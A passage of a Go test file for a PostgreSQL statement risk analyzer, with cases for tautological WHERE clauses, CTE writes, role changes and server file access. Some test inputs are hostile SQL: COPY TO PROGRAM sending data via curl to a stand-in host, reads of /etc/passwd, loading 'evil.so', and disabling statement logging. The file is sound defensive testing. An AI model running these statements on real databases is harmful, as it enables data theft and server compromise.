package sqlcheck_test

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/gatehouse/gatehouse/internal/analysis"
	"github.com/gatehouse/gatehouse/internal/sqlcheck"
)

// stmt is what a test expects of one statement. Type, Class, Tables and
// Where are compared exactly; the finding and effect lists are checked for
// presence (and absence).
type stmt struct {
	Type   string
	Class  sqlcheck.Class
	Tables []string
	Where  string

	Findings   []analysis.FindingKind // each must be present
	NoFindings []analysis.FindingKind // each must be absent
	Effects    []analysis.Effect      // each must be present
	NoEffects  []analysis.Effect      // each must be absent
}

// shape is the part of a statement compared exactly.
type shape struct {
	Type   string
	Class  sqlcheck.Class
	Tables []string
	Where  string
}

// Shorthands for the finding kinds and effects used below.
const (
	noWhere    = analysis.FindingNoWhere
	tautology  = analysis.FindingTautology
	cteWrite   = analysis.FindingCTEWrite
	roleChange = analysis.FindingRoleChange
	sysConfig  = analysis.FindingSystemConfig
	serverFile = analysis.FindingServerFile
	serverProg = analysis.FindingServerProgram
	dangerous  = analysis.FindingDangerousFunc
	unknownFn  = analysis.FindingUnknownFunc
	dynCode    = analysis.FindingDynamicCode
	lock       = analysis.FindingLock
	irrevers   = analysis.FindingIrreversible
	unknownSub = analysis.FindingUnknownSub
)

var (
	read        = analysis.Read
	mutation    = analysis.RemoteMutation
	destructive = analysis.Destructive
	privilege   = analysis.Privilege
	opaque      = analysis.Opaque
)

// deleteWhere is the expectation for "DELETE FROM t WHERE <cond>".
// deleteWhereTU is deleteWhere for a statement that names tables t and u.
func deleteWhereTU(where string) stmt {
	s := deleteWhere(where)
	s.Tables = []string{"t", "u"}
	return s
}

func deleteWhere(where string) stmt {
	s := stmt{Type: "delete", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: where,
		Effects: []analysis.Effect{destructive, mutation}}
	switch where {
	case "always-true":
		s.Findings = []analysis.FindingKind{tautology}
		s.NoFindings = []analysis.FindingKind{noWhere}
	case "present":
		s.NoFindings = []analysis.FindingKind{tautology, noWhere}
	}
	return s
}

var parseTests = []struct {
	name string
	sql  string
	want []stmt
	err  string // substring of the expected error
	bug  string // a known analyzer bug: the case is skipped while it differs
}{
	// Reads.
	{name: "select", sql: "SELECT * FROM users",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Tables: []string{"users"},
			Effects: []analysis.Effect{read}, NoEffects: []analysis.Effect{mutation, destructive, opaque}}}},
	{name: "select-join-qualified", sql: "SELECT * FROM public.users u JOIN orders o ON o.uid = u.id",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Tables: []string{"public.users", "orders"}}}},
	{name: "select-for-update", sql: "SELECT * FROM users WHERE id = 5 FOR UPDATE",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Tables: []string{"users"}, Findings: []analysis.FindingKind{lock}}}},
	{name: "select-known-functions", sql: "SELECT lower(name), count(*) FROM users GROUP BY 1",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Tables: []string{"users"},
			NoFindings: []analysis.FindingKind{unknownFn, dangerous}, NoEffects: []analysis.Effect{analysis.Unknown}}}},
	{name: "select-read-only-cte", sql: "WITH c AS (SELECT * FROM t) SELECT * FROM c",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Tables: []string{"t"}, NoFindings: []analysis.FindingKind{cteWrite}}}},
	{name: "show", sql: "SHOW search_path",
		want: []stmt{{Type: "show", Class: sqlcheck.ClassRead}}},
	{name: "listen", sql: "LISTEN ch",
		want: []stmt{{Type: "listen", Class: sqlcheck.ClassRead}}},
	{name: "declare-cursor", sql: "DECLARE c CURSOR FOR SELECT * FROM t",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Tables: []string{"t"}}}},

	// Writes.
	{name: "insert", sql: "INSERT INTO t (a) VALUES (1)",
		want: []stmt{{Type: "insert", Class: sqlcheck.ClassWrite, Tables: []string{"t"},
			Effects: []analysis.Effect{mutation}, NoFindings: []analysis.FindingKind{irrevers}}}},
	{name: "insert-select", sql: "INSERT INTO t SELECT * FROM s",
		want: []stmt{{Type: "insert", Class: sqlcheck.ClassWrite, Tables: []string{"t", "s"}, Findings: []analysis.FindingKind{noWhere}}}},
	{name: "insert-values", sql: "INSERT INTO t VALUES (1), (2)",
		want: []stmt{{Type: "insert", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, NoFindings: []analysis.FindingKind{noWhere}}}},
	{name: "insert-on-conflict-update", sql: "INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = 2",
		want: []stmt{{Type: "insert", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Findings: []analysis.FindingKind{irrevers}}}},
	{name: "notify", sql: "NOTIFY ch, 'x'",
		want: []stmt{{Type: "notify", Class: sqlcheck.ClassWrite}}},

	// WHERE missing or always true.
	{name: "update-without-where", sql: "UPDATE t SET a = 1",
		want: []stmt{{Type: "update", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "missing",
			Findings: []analysis.FindingKind{noWhere, irrevers}, Effects: []analysis.Effect{destructive}}}},
	{name: "delete-without-where", sql: "DELETE FROM t",
		want: []stmt{{Type: "delete", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "missing",
			Findings: []analysis.FindingKind{noWhere, irrevers}, Effects: []analysis.Effect{destructive}}}},
	{name: "where-1=1", sql: "DELETE FROM t WHERE 1=1", want: []stmt{deleteWhere("always-true")}},
	{name: "where-true", sql: "DELETE FROM t WHERE true", want: []stmt{deleteWhere("always-true")}},
	{name: "where-equal-strings", sql: "DELETE FROM t WHERE 'a'='a'", want: []stmt{deleteWhere("always-true")}},
	{name: "where-column-equals-itself", sql: "DELETE FROM t WHERE id = id", want: []stmt{deleteWhere("always-true")}},
	{name: "where-column-ge-itself", sql: "DELETE FROM t WHERE x >= x", want: []stmt{deleteWhere("always-true")}},
	{name: "where-or-1=1", sql: "DELETE FROM t WHERE id = 5 OR 1=1", want: []stmt{deleteWhere("always-true")}},
	{name: "where-not-false", sql: "DELETE FROM t WHERE NOT false", want: []stmt{deleteWhere("always-true")}},
	{name: "where-like-percent", sql: "DELETE FROM t WHERE 'x' LIKE '%'", want: []stmt{deleteWhere("always-true")}},
	{name: "where-column-like-percent", sql: "DELETE FROM t WHERE x LIKE '%%'", want: []stmt{deleteWhere("always-true")}},
	{name: "where-in-itself", sql: "DELETE FROM t WHERE 1 IN (1)", want: []stmt{deleteWhere("always-true")}},
	{name: "where-bool-cast", sql: "DELETE FROM t WHERE 'yes'::boolean", want: []stmt{deleteWhere("always-true")}},
	{name: "where-null-is-null", sql: "DELETE FROM t WHERE NULL IS NULL", want: []stmt{deleteWhere("always-true")}},
	{name: "where-exists-constant", sql: "DELETE FROM t WHERE EXISTS (SELECT 1)", want: []stmt{deleteWhere("always-true")}},
	{name: "where-between-itself", sql: "DELETE FROM t WHERE x BETWEEN x AND x", want: []stmt{deleteWhere("always-true")}},
	{name: "where-is-true", sql: "DELETE FROM t WHERE (1=1) IS TRUE", want: []stmt{deleteWhere("always-true")}},
	{name: "where-null-or-not-null", sql: "DELETE FROM t WHERE x IS NULL OR x IS NOT NULL", want: []stmt{deleteWhere("always-true")}},
	{name: "where-constant-comparison", sql: "DELETE FROM t WHERE 2 > 1", want: []stmt{deleteWhere("always-true")}},
	{name: "where-or-not-false-comparison", sql: "DELETE FROM t WHERE id = 5 OR NOT (1 = 2)", want: []stmt{deleteWhere("always-true")}},
	{name: "update-where-true-or", sql: "UPDATE t SET a = 1 WHERE true OR a = 2",
		want: []stmt{{Type: "update", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "always-true",
			Findings: []analysis.FindingKind{tautology}, Effects: []analysis.Effect{destructive}}}},
	{name: "where-text-comparison", sql: "DELETE FROM t WHERE '9' > '10'", want: []stmt{deleteWhere("always-true")}},

	// WHERE that really filters.
	{name: "update-filtered", sql: "UPDATE t SET a = 1 WHERE id = 5",
		want: []stmt{{Type: "update", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "present",
			NoFindings: []analysis.FindingKind{noWhere, tautology}, NoEffects: []analysis.Effect{destructive}}}},
	{name: "where-id-equals-constant", sql: "DELETE FROM t WHERE id = 5", want: []stmt{deleteWhere("present")}},
	{name: "where-two-columns", sql: "DELETE FROM t WHERE a = b", want: []stmt{deleteWhere("present")}},
	{name: "where-filter-and-true", sql: "DELETE FROM t WHERE x > 0 AND true", want: []stmt{deleteWhere("present")}},
	{name: "where-1=1-and-filter", sql: "DELETE FROM t WHERE 1=1 AND id = 5", want: []stmt{deleteWhere("present")}},
	{name: "where-column-differs-from-itself", sql: "DELETE FROM t WHERE id <> id", want: []stmt{deleteWhere("present")}},
	{name: "where-false-or-filter", sql: "DELETE FROM t WHERE 1 = 2 OR id = 3", want: []stmt{deleteWhere("present")}},
	{name: "where-qualified-and-bare-column", sql: "DELETE FROM t WHERE t.id = id", want: []stmt{deleteWhere("always-true")}},
	{name: "where-or-row-independent", sql: "DELETE FROM t WHERE id = 1 OR 'x' ~ 'x'", want: []stmt{deleteWhere("always-true")}},
	{name: "where-not-distinct-from-itself", sql: "DELETE FROM t WHERE id IS NOT DISTINCT FROM id", want: []stmt{deleteWhere("always-true")}},
	{name: "where-distinct-from-itself", sql: "DELETE FROM t WHERE id IS DISTINCT FROM id OR id = 4", want: []stmt{deleteWhere("present")}},
	{name: "where-or-complement", sql: "DELETE FROM t WHERE id = 1 OR id <> 1", want: []stmt{deleteWhere("always-true")}},
	{name: "where-or-complement-order", sql: "DELETE FROM t WHERE id < 10 OR id >= 10", want: []stmt{deleteWhere("always-true")}},
	{name: "where-or-not-complement", sql: "DELETE FROM t WHERE id < 10 OR id > 10", want: []stmt{deleteWhere("present")}},
	{name: "where-in-self-subquery", sql: "DELETE FROM t WHERE id IN (SELECT id FROM t)", want: []stmt{deleteWhere("always-true")}},
	{name: "where-in-other-subquery", sql: "DELETE FROM t WHERE id IN (SELECT t_id FROM u)", want: []stmt{deleteWhereTU("present")}},
	{name: "where-in-own-column", sql: "DELETE FROM t WHERE id IN (id, 3)", want: []stmt{deleteWhere("always-true")}},
	{name: "where-any-array-own-column", sql: "DELETE FROM t WHERE id = ANY(ARRAY[id])", want: []stmt{deleteWhere("always-true")}},
	{name: "where-cast-and-collate", sql: `DELETE FROM t WHERE id::text = id::text COLLATE "C"`, want: []stmt{deleteWhere("always-true")}},
	{name: "where-uncorrelated-exists", sql: "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = 5)", want: []stmt{deleteWhereTU("always-true")}},
	{name: "where-correlated-exists", sql: "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.t_id = t.id)", want: []stmt{deleteWhereTU("present")}},
	{name: "where-only-other-table", sql: "DELETE FROM t USING u WHERE u.id = 5", want: []stmt{deleteWhereTU("always-true")}},
	{name: "where-null-or-not-null-negated", sql: "DELETE FROM t WHERE id IS NULL OR NOT id IS NULL", want: []stmt{deleteWhere("always-true")}},
	{name: "where-boolean-of-tautology", sql: "DELETE FROM t WHERE (id = id) = true", want: []stmt{deleteWhere("always-true")}},
	{name: "where-boolean-column", sql: "DELETE FROM t WHERE active = true", want: []stmt{deleteWhere("present")}},
	{name: "where-between-symmetric-itself", sql: "DELETE FROM t WHERE id BETWEEN SYMMETRIC id AND id", want: []stmt{deleteWhere("always-true")}},
	{name: "where-complement-swapped", sql: "DELETE FROM t WHERE 0 < id OR id <= 0", want: []stmt{deleteWhere("always-true")}},
	{name: "where-like-or-not-like", sql: "DELETE FROM t WHERE email NOT LIKE 'x' OR email LIKE 'x'", want: []stmt{deleteWhere("always-true")}},
	{name: "where-all-array-own-column", sql: "DELETE FROM t WHERE id = ALL(ARRAY[id])", want: []stmt{deleteWhere("always-true")}},
	{name: "where-empty-regex", sql: "DELETE FROM t WHERE email ~ ''", want: []stmt{deleteWhere("always-true")}},
	{name: "where-self-arithmetic", sql: "DELETE FROM t WHERE id <> id + 1", want: []stmt{deleteWhere("always-true")}},
	{name: "where-two-columns", sql: "DELETE FROM t WHERE updated_at > created_at", want: []stmt{deleteWhere("present")}},
	{name: "where-self-subquery-trivial-where", sql: "DELETE FROM t WHERE id IN (SELECT id FROM t WHERE true)", want: []stmt{deleteWhere("always-true")}},
	{name: "where-joins-other-table", sql: "DELETE FROM t USING u WHERE u.t_id = t.id AND u.id = 5", want: []stmt{deleteWhereTU("present")}},
	{name: "where-constant-not-in", sql: "DELETE FROM t WHERE 1 NOT IN (2)", want: []stmt{deleteWhere("always-true")}},
	{name: "where-is-null", sql: "DELETE FROM t WHERE x IS NULL", want: []stmt{deleteWhere("present")}},

	// MERGE.
	{name: "merge-on-true", sql: "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
		want: []stmt{{Type: "merge", Class: sqlcheck.ClassWrite, Tables: []string{"t", "s"}, Where: "always-true",
			Findings: []analysis.FindingKind{tautology, irrevers}, Effects: []analysis.Effect{destructive}}}},
	{name: "merge-on-join", sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
		want: []stmt{{Type: "merge", Class: sqlcheck.ClassWrite, Tables: []string{"t", "s"}, Where: "present",
			NoFindings: []analysis.FindingKind{tautology}, NoEffects: []analysis.Effect{destructive}}}},

	// DML hidden in a WITH clause.
	{name: "cte-delete", sql: "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "missing",
			Findings: []analysis.FindingKind{cteWrite, noWhere}, Effects: []analysis.Effect{destructive, mutation}}}},
	{name: "cte-update-filtered", sql: "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "present",
			Findings: []analysis.FindingKind{cteWrite}, Effects: []analysis.Effect{mutation}}}},
	{name: "cte-insert", sql: "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassWrite, Tables: []string{"t"},
			Findings: []analysis.FindingKind{cteWrite}, Effects: []analysis.Effect{mutation}}}},
	{name: "cte-delete-beside-filtered-delete", sql: "WITH d AS (DELETE FROM a RETURNING *) DELETE FROM b WHERE id = 1",
		want: []stmt{{Type: "delete", Class: sqlcheck.ClassWrite, Tables: []string{"a", "b"}, Where: "missing",
			Findings: []analysis.FindingKind{cteWrite, noWhere}}}},

	// EXPLAIN plans without running; EXPLAIN ANALYZE runs.
	{name: "explain-delete", sql: "EXPLAIN DELETE FROM t",
		want: []stmt{{Type: "explain", Class: sqlcheck.ClassRead, Tables: []string{"t"},
			NoFindings: []analysis.FindingKind{noWhere, irrevers}, Effects: []analysis.Effect{read},
			NoEffects: []analysis.Effect{destructive, mutation, opaque}}}},
	{name: "explain-analyze-delete", sql: "EXPLAIN ANALYZE DELETE FROM t",
		want: []stmt{{Type: "explain_analyze_delete", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "missing",
			Findings: []analysis.FindingKind{noWhere}, Effects: []analysis.Effect{destructive, mutation}}}},
	{name: "explain-analyze-options", sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2",
		want: []stmt{{Type: "explain_analyze_update", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "present"}}},
	{name: "explain-analyze-function", sql: "EXPLAIN ANALYZE SELECT pg_sleep(10)",
		want: []stmt{{Type: "explain_analyze_select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{lock}}}},
	{name: "explain-analyze-false", sql: "EXPLAIN (ANALYZE false) DELETE FROM t",
		want: []stmt{{Type: "explain", Class: sqlcheck.ClassRead, Tables: []string{"t"}, NoEffects: []analysis.Effect{destructive}}}},

	// COPY.
	{name: "copy-to-server-file", sql: "COPY t TO '/tmp/t.csv'",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassFile, Tables: []string{"t"},
			Findings: []analysis.FindingKind{serverFile}, Effects: []analysis.Effect{analysis.Exfiltration, privilege}}}},
	{name: "copy-from-server-file", sql: "COPY t FROM '/etc/passwd'",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassFile, Tables: []string{"t"},
			Findings: []analysis.FindingKind{serverFile}, Effects: []analysis.Effect{analysis.SecretRead, mutation}}}},
	{name: "copy-to-program", sql: "COPY t TO PROGRAM 'curl -d @- https://x.example'",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassFile, Tables: []string{"t"},
			Findings: []analysis.FindingKind{serverProg}, Effects: []analysis.Effect{analysis.RemoteCode}}}},
	{name: "copy-from-program", sql: "COPY t FROM PROGRAM 'cat /etc/passwd'",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassFile, Tables: []string{"t"},
			Findings: []analysis.FindingKind{serverProg}, Effects: []analysis.Effect{analysis.RemoteCode}}}},
	{name: "copy-from-stdin", sql: "COPY t FROM STDIN",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassWrite, Tables: []string{"t"},
			NoFindings: []analysis.FindingKind{serverFile, serverProg}, Effects: []analysis.Effect{mutation}}}},
	{name: "copy-to-stdout", sql: "COPY t TO STDOUT",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassRead, Tables: []string{"t"},
			NoFindings: []analysis.FindingKind{serverFile, serverProg}, NoEffects: []analysis.Effect{mutation}}}},
	{name: "copy-query-to-stdout", sql: "COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassRead, Tables: []string{"users"}}}},
	{name: "copy-delete-returning", sql: "COPY (DELETE FROM users RETURNING *) TO STDOUT",
		want: []stmt{{Type: "copy", Class: sqlcheck.ClassWrite, Tables: []string{"users"}, Where: "missing",
			Findings: []analysis.FindingKind{cteWrite, noWhere}, Effects: []analysis.Effect{destructive}}}},

	// DDL.
	{name: "create-table", sql: "CREATE TABLE t (id int)",
		want: []stmt{{Type: "create", Class: sqlcheck.ClassDDL, Tables: []string{"t"}, NoEffects: []analysis.Effect{destructive}}}},
	{name: "create-index", sql: "CREATE INDEX i ON t (a)",
		want: []stmt{{Type: "index", Class: sqlcheck.ClassDDL, Tables: []string{"t"}}}},
	{name: "create-view", sql: "CREATE VIEW v AS SELECT * FROM t",
		want: []stmt{{Type: "view", Class: sqlcheck.ClassDDL, Tables: []string{"v", "t"}}}},
	{name: "create-table-as", sql: "CREATE TABLE t2 AS SELECT * FROM t",
		want: []stmt{{Type: "create_table_as", Class: sqlcheck.ClassDDL, Tables: []string{"t2", "t"}}}},
	{name: "select-into", sql: "SELECT * INTO backup FROM users",
		want: []stmt{{Type: "select_into", Class: sqlcheck.ClassDDL, Tables: []string{"backup", "users"}, Effects: []analysis.Effect{mutation}}}},
	{name: "alter-table-add-column", sql: "ALTER TABLE t ADD COLUMN c int",
		want: []stmt{{Type: "alter_table", Class: sqlcheck.ClassDDL, Tables: []string{"t"}, NoFindings: []analysis.FindingKind{irrevers}}}},
	{name: "alter-column-type", sql: "ALTER TABLE t ALTER COLUMN c TYPE bigint",
		want: []stmt{{Type: "alter_table", Class: sqlcheck.ClassDDL, Tables: []string{"t"}, Findings: []analysis.FindingKind{irrevers, lock}}}},
	{name: "rename-table", sql: "ALTER TABLE t RENAME TO u",
		want: []stmt{{Type: "rename", Class: sqlcheck.ClassDDL, Tables: []string{"t"}, Findings: []analysis.FindingKind{irrevers}}}},

	// Destructive DDL.
	{name: "truncate", sql: "TRUNCATE t",
		want: []stmt{{Type: "truncate", Class: sqlcheck.ClassDestructiveDDL, Tables: []string{"t"},
			Findings: []analysis.FindingKind{irrevers}, Effects: []analysis.Effect{destructive}}}},
	{name: "drop-table-cascade", sql: "DROP TABLE users CASCADE",
		want: []stmt{{Type: "drop", Class: sqlcheck.ClassDestructiveDDL, Tables: []string{"users"},
			Findings: []analysis.FindingKind{irrevers}, Effects: []analysis.Effect{destructive}}}},
	{name: "drop-tables", sql: "DROP TABLE IF EXISTS a, s.b",
		want: []stmt{{Type: "drop", Class: sqlcheck.ClassDestructiveDDL, Tables: []string{"a", "s.b"}}}},
	{name: "drop-database", sql: "DROP DATABASE prod",
		want: []stmt{{Type: "drop_database", Class: sqlcheck.ClassDestructiveDDL, Effects: []analysis.Effect{destructive}}}},
	{name: "drop-column", sql: "ALTER TABLE t DROP COLUMN c",
		want: []stmt{{Type: "alter_table", Class: sqlcheck.ClassDestructiveDDL, Tables: []string{"t"},
			Findings: []analysis.FindingKind{irrevers}, Effects: []analysis.Effect{destructive}}}},
	{name: "drop-owned", sql: "DROP OWNED BY app",
		want: []stmt{{Type: "drop_owned", Class: sqlcheck.ClassDestructiveDDL, Effects: []analysis.Effect{destructive, privilege}}}},

	// Privileges and roles.
	{name: "grant-to-public", sql: "GRANT SELECT ON t TO PUBLIC",
		want: []stmt{{Type: "grant", Class: sqlcheck.ClassPrivilege, Tables: []string{"t"},
			Findings: []analysis.FindingKind{roleChange}, Effects: []analysis.Effect{privilege}}}},
	{name: "grant-to-role", sql: "GRANT SELECT ON t TO app",
		want: []stmt{{Type: "grant", Class: sqlcheck.ClassPrivilege, Tables: []string{"t"}, NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "revoke-from-public", sql: "REVOKE ALL ON t FROM PUBLIC",
		want: []stmt{{Type: "revoke", Class: sqlcheck.ClassPrivilege, Tables: []string{"t"}, NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "grant-role", sql: "GRANT admin TO app",
		want: []stmt{{Type: "grant_role", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "alter-role-superuser", sql: "ALTER ROLE app SUPERUSER",
		want: []stmt{{Type: "alter_role", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange},
			Effects: []analysis.Effect{privilege}}}},
	{name: "create-role-superuser", sql: "CREATE ROLE x SUPERUSER",
		want: []stmt{{Type: "create_role", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "create-role-login", sql: "CREATE ROLE x LOGIN",
		want: []stmt{{Type: "create_role", Class: sqlcheck.ClassPrivilege, NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "set-role", sql: "SET ROLE admin",
		want: []stmt{{Type: "set_role", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange},
			Effects: []analysis.Effect{privilege}}}},
	{name: "set-local-role", sql: "SET LOCAL ROLE admin",
		want: []stmt{{Type: "set_role", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-session-authorization", sql: "SET SESSION AUTHORIZATION admin",
		want: []stmt{{Type: "set_session_authorization", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	// Resetting the role can undo a restriction (SET ROLE readonly), so it is
	// judged as a role change too.
	{name: "set-session-authorization-default", sql: "SET SESSION AUTHORIZATION DEFAULT",
		want: []stmt{{Type: "reset", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "reset-role", sql: "RESET ROLE",
		want: []stmt{{Type: "reset", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange},
			Effects: []analysis.Effect{privilege}}}},
	{name: "reset-all", sql: "RESET ALL",
		want: []stmt{{Type: "reset", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "reset-harmless-setting", sql: "RESET search_path",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassRead, NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "set-search-path", sql: "SET search_path = evil, pg_catalog",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{analysis.FindingSystemConfig}}}},
	{name: "set-log-statement", sql: "SET log_statement = 'none'",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{analysis.FindingSystemConfig}}}},
	{name: "set-harmless", sql: "SET LOCAL statement_timeout = '5s'",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassRead, NoFindings: []analysis.FindingKind{analysis.FindingSystemConfig}}}},
	{name: "discard-all", sql: "DISCARD ALL",
		want: []stmt{{Type: "discard", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "discard-plans", sql: "DISCARD PLANS",
		want: []stmt{{Type: "discard", Class: sqlcheck.ClassRead, NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "set-session-replication-role", sql: "SET session_replication_role = replica",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-read-only-off", sql: "SET default_transaction_read_only = off",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-read-only-false", sql: "SET default_transaction_read_only TO false",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-read-only-f", sql: "SET default_transaction_read_only = f",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-row-security-no", sql: "SET row_security = no",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-session-characteristics-read-write", sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-transaction-read-write", sql: "SET TRANSACTION READ WRITE",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassPrivilege, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "set-transaction-read-only", sql: "SET TRANSACTION READ ONLY",
		want: []stmt{{Type: "set", Class: sqlcheck.ClassRead, NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "disable-row-level-security", sql: "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
		want: []stmt{{Type: "alter_table", Class: sqlcheck.ClassPrivilege, Tables: []string{"t"}, Findings: []analysis.FindingKind{roleChange}}}},

	// Administration.
	{name: "alter-system", sql: "ALTER SYSTEM SET work_mem = '1GB'",
		want: []stmt{{Type: "alter_system", Class: sqlcheck.ClassAdmin, Findings: []analysis.FindingKind{sysConfig},
			Effects: []analysis.Effect{privilege, mutation}}}},
	{name: "alter-system-reset", sql: "ALTER SYSTEM RESET ALL",
		want: []stmt{{Type: "alter_system", Class: sqlcheck.ClassAdmin, Findings: []analysis.FindingKind{sysConfig}}}},
	{name: "vacuum-full", sql: "VACUUM FULL t",
		want: []stmt{{Type: "vacuum", Class: sqlcheck.ClassAdmin, Tables: []string{"t"}, Findings: []analysis.FindingKind{lock}}}},
	{name: "lock-table", sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
		want: []stmt{{Type: "lock", Class: sqlcheck.ClassAdmin, Tables: []string{"t"}, Findings: []analysis.FindingKind{lock}}}},
	{name: "checkpoint", sql: "CHECKPOINT",
		want: []stmt{{Type: "check_point", Class: sqlcheck.ClassAdmin}}},

	// Server files and programs.
	{name: "load-library", sql: "LOAD 'evil.so'",
		want: []stmt{{Type: "load", Class: sqlcheck.ClassFile, Findings: []analysis.FindingKind{serverFile},
			Effects: []analysis.Effect{analysis.RemoteCode}}}},

	// Code the analysis cannot see into.
	{name: "create-function-security-definer", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'",
		want: []stmt{{Type: "create_function", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{roleChange, dynCode},
			Effects: []analysis.Effect{privilege, opaque}}}},
	{name: "create-function-security-invoker", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'select 1'",
		want: []stmt{{Type: "create_function", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{dynCode},
			NoFindings: []analysis.FindingKind{roleChange}, NoEffects: []analysis.Effect{privilege}}}},
	{name: "create-function-untrusted-language", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'",
		want: []stmt{{Type: "create_function", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{serverProg},
			Effects: []analysis.Effect{analysis.RemoteCode}}}},
	{name: "create-function-language-c", sql: "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c",
		want: []stmt{{Type: "create_function", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{serverProg},
			Effects: []analysis.Effect{analysis.RemoteCode}}}},
	{name: "alter-function-security-definer", sql: "ALTER FUNCTION f() SECURITY DEFINER",
		want: []stmt{{Type: "alter_function", Class: sqlcheck.ClassDDL, Findings: []analysis.FindingKind{roleChange}}}},
	{name: "create-procedure", sql: "CREATE PROCEDURE p() LANGUAGE sql AS 'delete from t'",
		want: []stmt{{Type: "create_procedure", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{dynCode}}}},
	{name: "call", sql: "CALL p()",
		want: []stmt{{Type: "call", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{dynCode}, Effects: []analysis.Effect{opaque}}}},
	{name: "do-block", sql: "DO $$ BEGIN DELETE FROM t; END $$",
		want: []stmt{{Type: "do", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{dynCode}, Effects: []analysis.Effect{opaque}}}},
